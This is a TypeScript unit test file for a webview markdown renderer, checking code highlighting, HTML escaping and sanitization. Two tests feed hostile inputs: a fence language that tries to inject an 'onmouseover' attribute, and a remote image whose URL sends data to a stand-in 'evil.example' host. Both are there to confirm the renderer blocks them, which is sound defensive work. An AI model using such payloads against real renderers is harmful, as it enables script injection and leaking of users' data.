import assert from 'node:assert/strict';
import { fenceLanguage, highlightCode } from '../../../src/webview/render/highlight';
import { escapeHtml, markdownToHtml } from '../../../src/webview/render/markdownToHtml';
// The highlighter script, as the webview loads it after its first paint.
import '../../../src/webview/highlighter';

describe('markdownToHtml', () => {
  it('leaves code unhighlighted while the highlighter script has not loaded', () => {
    const scope = globalThis as { patchbayHighlighter?: unknown };
    const loaded = scope.patchbayHighlighter;
    delete scope.patchbayHighlighter;
    try {
      assert.equal(highlightCode('const a = 1;', 'ts'), undefined);
      assert.doesNotMatch(markdownToHtml('```ts\nconst a = 1;\n```\n', { highlight: true }), /hljs-/);
    } finally {
      scope.patchbayHighlighter = loaded;
    }
  });

  it('highlights fenced code in a known language when asked to', () => {
    const html = markdownToHtml('```ts\nconst a: number = 1;\n```\n', { highlight: true });
    assert.match(html, /<pre><code class="language-ts">/);
    assert.match(html, /<span class="hljs-keyword">const<\/span>/);
  });

  it('leaves code as escaped text when highlighting is off (the streaming block)', () => {
    const html = markdownToHtml('```ts\nif (a < b) {}\n```\n', { highlight: false });
    assert.doesNotMatch(html, /hljs-/);
    assert.match(html, /if \(a &lt; b\) \{\}/);
  });

  it('escapes code in an unknown language instead of guessing one', () => {
    const html = markdownToHtml('```nosuchlang\n<b>x</b>\n```\n', { highlight: true });
    assert.match(html, /<code class="language-nosuchlang">&lt;b&gt;x&lt;\/b&gt;/);
    assert.doesNotMatch(html, /hljs-/);
  });

  it('keeps a fence language from breaking out of the class attribute', () => {
    const html = markdownToHtml('```js" onmouseover="alert(1)\nx\n```\n', { highlight: true });
    assert.doesNotMatch(html, /onmouseover/);
    assert.match(html, /class="language-js"/);
  });

  it('replaces a remote image with a placeholder that names it, without an <img>', () => {
    const html = markdownToHtml('![secret chart](https://evil.example/leak?data=abc)', { highlight: true });
    assert.doesNotMatch(html, /<img/);
    assert.match(html, /<span class="blocked-image" title="Image not loaded: https:\/\/evil\.example\/leak\?data=abc">\[image blocked: secret chart\]<\/span>/);
  });

  it('keeps an image embedded as a data URL', () => {
    const html = markdownToHtml('![dot](data:image/png;base64,iVBORw0KGgo=)', { highlight: true });
    assert.match(html, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="dot">/);
  });

  it('shows task list boxes as text, since the sanitizer removes inputs', () => {
    const html = markdownToHtml('- [x] done\n- [ ] todo\n', { highlight: true });
    assert.doesNotMatch(html, /<input/);
    assert.match(html, /☑/);
    assert.match(html, /☐/);
  });

  it('renders ordinary markdown', () => {
    const html = markdownToHtml('# Title\n\nSome **bold** and `code`.', { highlight: true });
    assert.match(html, /<h1>Title<\/h1>/);
    assert.match(html, /<strong>bold<\/strong>/);
    assert.match(html, /<code>code<\/code>/);
  });
});

describe('highlight helpers', () => {
  it('takes the first word of the info string and strips unsafe characters', () => {
    assert.equal(fenceLanguage('TypeScript {1,3}'), 'typescript');
    assert.equal(fenceLanguage('c++'), 'c++');
    assert.equal(fenceLanguage('c#'), 'c#');
    assert.equal(fenceLanguage('<script>'), 'script');
    assert.equal(fenceLanguage(undefined), '');
  });

  it('knows common aliases and rejects unknown languages', () => {
    assert.ok(highlightCode('x = 1', 'py')?.includes('hljs-'));
    assert.ok(highlightCode('echo "hi"', 'sh')?.includes('hljs-'));
    assert.ok(highlightCode('{"a": 1}', 'jsonc')?.includes('hljs-'));
    assert.equal(highlightCode('x', 'cobol-2099'), undefined);
    assert.equal(highlightCode('x', ''), undefined);
  });

  it('escapes every character that matters in HTML', () => {
    assert.equal(escapeHtml(`<a href="x">'&'</a>`), '&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });
});
